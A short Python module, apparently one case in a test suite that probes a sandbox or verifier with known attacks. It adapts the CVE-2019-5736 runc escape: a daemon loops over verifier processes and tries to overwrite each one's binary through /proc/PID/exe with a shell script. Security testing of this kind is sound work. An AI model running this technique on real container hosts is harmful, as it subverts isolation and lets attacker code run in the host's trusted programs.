"""Opens the verifier's program for writing while it runs.

Source: CVE-2019-5736 (runc's own program overwritten through /proc/PID/exe).
"""

from attacks.frame import FORGE, SEEN, Attack, python_daemon

ATTACK = Attack(
    "shell",
    python_daemon(f"""
for pid in verifiers():
    for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC, os.O_PATH):
        with contextlib.suppress(OSError):
            fd = os.open(f"/proc/{{pid}}/exe", flags)
            os.write(os.open(f"/proc/self/fd/{{fd}}", os.O_WRONLY), b"#!/bin/sh\\n{FORGE}\\n")
"""),
    ran=SEEN,
)
